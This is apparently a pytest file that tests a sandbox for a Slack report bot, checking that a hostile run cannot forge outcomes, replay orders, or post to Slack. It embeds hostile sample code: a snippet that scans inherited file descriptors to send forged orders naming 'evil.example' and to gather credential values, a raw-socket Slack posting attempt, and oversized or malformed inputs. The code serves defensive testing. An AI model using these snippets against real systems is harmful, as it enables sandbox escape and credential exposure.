"""What a hostile run says: to the bot, to the guard's programs, and to Slack in the bot's place."""

import asyncio
import sys
from dataclasses import replace

import pytest

from bot import wire
from bot.domain.run import FailureCode
from tests import samples
from tests.executors import acting

pytestmark = [
    pytest.mark.skipif(sys.platform != "linux", reason="the walls are Linux's"),
    pytest.mark.slow,
]
LINES = {
    "walls that do not stand": (
        "wire.write_line(wire.Walled(walls=wire.Walls()))",
        "it spoke of its walls twice",
    ),
    "a picture": (
        "wire.write_line(wire.ChartMade(png=''))",
        "the outcome does not match its order",
    ),
    "the end of a suite": (
        "wire.write_line(wire.Attacked(attacks=()))",
        "the outcome does not match its order",
    ),
    "no text": (r"b'\xff\xfe\xed\xa0\x80\n'", "unreadable outcome at top: json_invalid"),
    "half a letter": (
        r"""b'{"type":"failure","failure":{"code":"\\ud800"}}\n'""",
        "unreadable outcome",
    ),
    "depth": (r"b'[' * 1_000_000 + b'\n'", "unreadable outcome at top"),
    "a long number": (r"b'9' * 1_000_000 + b'\n'", "unreadable outcome at top"),
    "no number": (r"b'NaN\n'", "unreadable outcome"),
    "another version": (
        "wire.write_line(replace(wire.ChartMade(png=''), version=99))",
        "outcome of version 99",
    ),
    "100 MB": ("b'x' * 100_000_000", "it wrote more than it may"),
}


@pytest.mark.parametrize(("line", "said"), LINES.values(), ids=LINES)
async def test_what_is_no_answer_is_a_crash(walled: acting.Stage, line: str, said: str) -> None:
    code = f"from dataclasses import replace\nout = find()\nout.write({line})\nout.flush()\n"
    executor = walled.executor(code + "os._exit(0)")
    failure = acting.failure(await executor.execute(walled.order()))
    assert failure.code is FailureCode.CRASHED
    assert failure.said.startswith(said)


@pytest.mark.parametrize("figure", [b"1E+999999", b"1E-999999", b"NaN", b"Infinity"])
async def test_a_figure_that_nobody_can_write_is_a_crash(
    walled: acting.Stage, figure: bytes
) -> None:
    order = walled.order()
    true = await walled.executor().execute(order)
    honest = wire.write_line(true)
    lying = honest.replace(b'"value":"21"', b'"value":"%b"' % figure)
    assert lying != honest
    failure = acting.failure(await walled.executor(_saying(lying)).execute(order))
    assert failure.code is FailureCode.CRASHED


def _saying(line: bytes) -> str:
    """Return what a run does that says this line alone."""
    return f"out = find()\nout.write({line!r})\nout.flush()\nos._exit(0)"


REPLAY = """
import socket
start = {"do": "start", "told": "ended", "token": "1", "client": "globex", "listening": 5,
         "references": ["env://GLOBEX_BIGQUERY"], "hosts": ["evil.example"], "dial": "evil.example"}
heard = [*map(str, order.credentials.values())]
for name in os.listdir("/proc/self/fd"):
    try:
        line = socket.socket(fileno=os.dup(int(name)))
    except OSError:
        continue
    for files in (1, 3, 5):
        ours, theirs = socket.socketpair()
        try:
            socket.send_fds(line, [json.dumps(start).encode()], [theirs.fileno()] * files)
        except OSError as error:
            heard.append(type(error).__name__)
        theirs.close()
        ours.settimeout(0.2)
        try:
            heard.append(ours.recv(65536).decode("ascii", "replace"))
        except OSError as error:
            heard.append(type(error).__name__)
return wire.RunFailed(
    failure=run.Failure(code=run.FailureCode.SOURCE_BUSY, said=" ".join(heard)[:200]), timings={})
"""


async def test_an_order_that_is_replayed_gives_nothing(walled: acting.Stage) -> None:
    """It has no channel but those of its own keeper and broker, and neither takes orders."""
    order = walled.order()
    said = acting.failure(await walled.executor(REPLAY).execute(order)).said
    assert said.startswith("***")  # its own, masked as it leaves
    assert "globex" not in said
    (walled.place / "acme/act.py").unlink()
    assert isinstance(await walled.executor().execute(order), wire.ReportMade)


async def test_the_outcome_of_another_run_is_no_answer(walled: acting.Stage) -> None:
    order = walled.order()
    true = await walled.executor().execute(order)
    assert isinstance(true, wire.ReportMade)
    executor = walled.executor(_saying(wire.write_line(true)))
    assert isinstance(await executor.execute(order), wire.ReportMade)
    for other in (
        replace(order, period=samples.LAST_WEEK),
        replace(order, as_of=order.as_of.replace(day=24)),
        replace(order, client=replace(order.client, name="Globex")),
    ):
        failure = acting.failure(await executor.execute(other))
        assert failure.said == "the outcome does not match its order"


POST = """
import socket
def post(at, head):
    with socket.create_connection(at, timeout=5) as line:
        line.sendall(head + b"POST /api/chat.postMessage HTTP/1.1\\r\\n\\r\\n")
        return line.recv(100)
heard = []
for at, head in (({direct}, b""), (("127.8.0.1", 3128), b"CONNECT {at} HTTP/1.1\\r\\n\\r\\n")):
    try:
        heard.append(post(at, head).decode())
    except OSError as error:
        heard.append(type(error).__name__)
return wire.RunFailed(
    failure=run.Failure(code=run.FailureCode.SOURCE_BUSY, said=" ".join(heard)), timings={{}})
"""


async def test_nothing_is_posted_to_slack_by_a_run(stage: acting.Stage) -> None:
    """Slack stands at the machine's loopback here; without walls the same run reaches it."""
    posted: list[bytes] = []

    async def slack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        posted.append(await reader.readline())
        writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
        await writer.drain()
        writer.close()

    serving = await asyncio.start_server(slack, "127.0.0.1", 0)
    async with serving:
        host, port = serving.sockets[0].getsockname()[:2]
        code = POST.format(direct=repr((host, port)), at=f"{host}:{port}")
        said = acting.failure(await stage.executor(code).execute(stage.order())).said
    is_open = stage.starter.most.value == "none"
    assert posted == ([b"POST /api/chat.postMessage HTTP/1.1\r\n"] if is_open else [])
    assert said.startswith("HTTP/1.1 200" if is_open else ("ConnectionRefused", "PermissionError"))
